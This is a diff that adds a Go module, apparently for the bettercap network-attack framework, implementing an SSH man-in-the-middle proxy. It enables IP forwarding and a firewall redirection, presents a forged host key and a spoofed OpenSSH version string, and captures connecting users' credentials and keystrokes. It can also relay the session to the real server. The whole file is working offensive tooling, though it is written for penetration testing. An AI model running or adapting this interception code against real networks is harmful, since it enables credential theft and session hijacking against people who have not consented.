@@ -0,0 +1,231 @@
+package ssh_proxy
+
+import (
+	"crypto/ed25519"
+	"encoding/base64"
+	"fmt"
+	"net"
+
+	"github.com/bettercap/bettercap/firewall"
+	"github.com/bettercap/bettercap/session"
+
+	"github.com/evilsocket/islazy/fs"
+)
+
+type SSHProxy struct {
+	session.SessionModule
+	Redirection *firewall.Redirection
+	localAddr   *net.TCPAddr
+	remoteAddr  *net.TCPAddr
+	listener    *net.TCPListener
+	hostKey     ed25519.PrivateKey
+	version     string
+	relay       bool
+}
+
+func NewSSHProxy(s *session.Session) *SSHProxy {
+	mod := &SSHProxy{
+		SessionModule: session.NewSessionModule("ssh.proxy", s),
+	}
+
+	mod.AddParam(session.NewIntParameter("ssh.port",
+		"22",
+		"SSH port to redirect when the proxy is activated."))
+
+	mod.AddParam(session.NewStringParameter("ssh.address",
+		"",
+		session.IPv4Validator,
+		"Address of the real SSH server."))
+
+	mod.AddParam(session.NewStringParameter("ssh.proxy.address",
+		session.ParamIfaceAddress,
+		session.IPv4Validator,
+		"Address to bind the SSH proxy to."))
+
+	mod.AddParam(session.NewIntParameter("ssh.proxy.port",
+		"2222",
+		"Port to bind the SSH proxy to."))
+
+	mod.AddParam(session.NewStringParameter("ssh.proxy.key",
+		"~/.bettercap-ssh.key.pem",
+		"",
+		"Ed25519 host key file of the SSH proxy, it will be generated if not found."))
+
+	mod.AddParam(session.NewStringParameter("ssh.proxy.version",
+		"SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6",
+		"^SSH-2\\.0-.+$",
+		"SSH version string to present to clients and servers."))
+
+	mod.AddParam(session.NewBoolParameter("ssh.proxy.relay",
+		"true",
+		"If true, captured credentials will be verified against the real server and the session relayed to it, otherwise authentication will always fail."))
+
+	mod.AddHandler(session.NewModuleHandler("ssh.proxy on", "",
+		"Start the SSH proxy.",
+		func(args []string) error {
+			return mod.Start()
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("ssh.proxy off", "",
+		"Stop the SSH proxy.",
+		func(args []string) error {
+			return mod.Stop()
+		}))
+
+	return mod
+}
+
+func (mod *SSHProxy) Name() string {
+	return "ssh.proxy"
+}
+
+func (mod *SSHProxy) Description() string {
+	return "An SSH man in the middle proxy, it presents its own host key to redirected clients, captures their credentials and keystrokes and optionally relays the session to the real server."
+}
+
+func (mod *SSHProxy) Author() string {
+	return "Simone Margaritelli <evilsocket@gmail.com>"
+}
+
+func (mod *SSHProxy) Configure() error {
+	var err error
+	var port int
+	var proxyPort int
+	var address string
+	var proxyAddress string
+	var keyFile string
+	var generated bool
+
+	if mod.Running() {
+		return session.ErrAlreadyStarted
+	} else if err, address = mod.StringParam("ssh.address"); err != nil {
+		return err
+	} else if err, proxyAddress = mod.StringParam("ssh.proxy.address"); err != nil {
+		return err
+	} else if err, proxyPort = mod.IntParam("ssh.proxy.port"); err != nil {
+		return err
+	} else if err, port = mod.IntParam("ssh.port"); err != nil {
+		return err
+	} else if err, mod.version = mod.StringParam("ssh.proxy.version"); err != nil {
+		return err
+	} else if err, mod.relay = mod.BoolParam("ssh.proxy.relay"); err != nil {
+		return err
+	} else if err, keyFile = mod.StringParam("ssh.proxy.key"); err != nil {
+		return err
+	} else if keyFile, err = fs.Expand(keyFile); err != nil {
+		return err
+	} else if err, mod.hostKey, generated = loadHostKey(keyFile); err != nil {
+		return err
+	} else if mod.localAddr, err = net.ResolveTCPAddr("tcp", fmt.Sprintf("%s:%d", proxyAddress, proxyPort)); err != nil {
+		return err
+	} else if mod.remoteAddr, err = net.ResolveTCPAddr("tcp", fmt.Sprintf("%s:%d", address, port)); err != nil {
+		return err
+	} else if mod.listener, err = net.ListenTCP("tcp", mod.localAddr); err != nil {
+		return err
+	}
+
+	if generated {
+		mod.Info("generated host key %s", keyFile)
+	}
+	mod.Debug("host key ssh-ed25519 %s", base64.StdEncoding.EncodeToString(hostKeyBlob(mod.hostKey.Public().(ed25519.PublicKey))))
+
+	if !mod.Session.Firewall.IsForwardingEnabled() {
+		mod.Info("enabling forwarding.")
+		mod.Session.Firewall.EnableForwarding(true)
+	}
+
+	mod.Redirection = firewall.NewRedirection(mod.Session.Interface.Name(),
+		"TCP",
+		port,
+		proxyAddress,
+		proxyPort)
+
+	mod.Redirection.SrcAddress = address
+
+	if err := mod.Session.Firewall.EnableRedirection(mod.Redirection, true); err != nil {
+		return err
+	}
+
+	mod.Debug("applied redirection %s", mod.Redirection.String())
+
+	return nil
+}
+
+func (mod *SSHProxy) handleConnection(c *net.TCPConn) {
+	defer c.Close()
+
+	mod.Info("got a connection from %s", c.RemoteAddr().String())
+
+	s := &sshSession{
+		mod:    mod,
+		victim: newTransport(c, true, mod.version, mod.hostKey),
+		client: c.RemoteAddr().(*net.TCPAddr).IP.String(),
+		server: mod.remoteAddr.String(),
+		lines:  make(map[uint32][]byte),
+	}
+
+	if err := s.victim.handshake(); err != nil {
+		mod.Debug("handshake with %s failed: %s", s.client, err)
+		return
+	}
+
+	mod.Debug("%s connected with %s", s.client, s.victim.remoteVersion)
+
+	if err := acceptService(s.victim); err != nil {
+		s.fail(err)
+		return
+	}
+
+	authenticated, err := s.authenticate()
+	if s.upstream != nil {
+		defer s.upstream.conn.Close()
+	}
+
+	if err != nil {
+		s.fail(err)
+		return
+	} else if !authenticated {
+		s.victim.disconnect(disconnectNoMoreAuthMeth, "Too many authentication failures")
+		return
+	}
+
+	mod.Info("relaying session of %s@%s to %s", s.username, s.client, s.server)
+	s.relay()
+	mod.Info("session of %s@%s closed", s.username, s.client)
+}
+
+func (mod *SSHProxy) Start() error {
+	if err := mod.Configure(); err != nil {
+		return err
+	}
+
+	return mod.SetRunning(true, func() {
+		mod.Info("started ( x -> %s -> %s )", mod.localAddr.String(), mod.remoteAddr.String())
+
+		for mod.Running() {
+			conn, err := mod.listener.AcceptTCP()
+			if err != nil {
+				if mod.Running() {
+					mod.Warning("error while accepting TCP connection: %s", err)
+				}
+				continue
+			}
+
+			go mod.handleConnection(conn)
+		}
+	})
+}
+
+func (mod *SSHProxy) Stop() error {
+	if mod.Redirection != nil {
+		mod.Debug("disabling redirection %s", mod.Redirection.String())
+		if err := mod.Session.Firewall.EnableRedirection(mod.Redirection, false); err != nil {
+			return err
+		}
+		mod.Redirection = nil
+	}
+
+	return mod.SetRunning(false, func() {
+		mod.listener.Close()
+	})
+}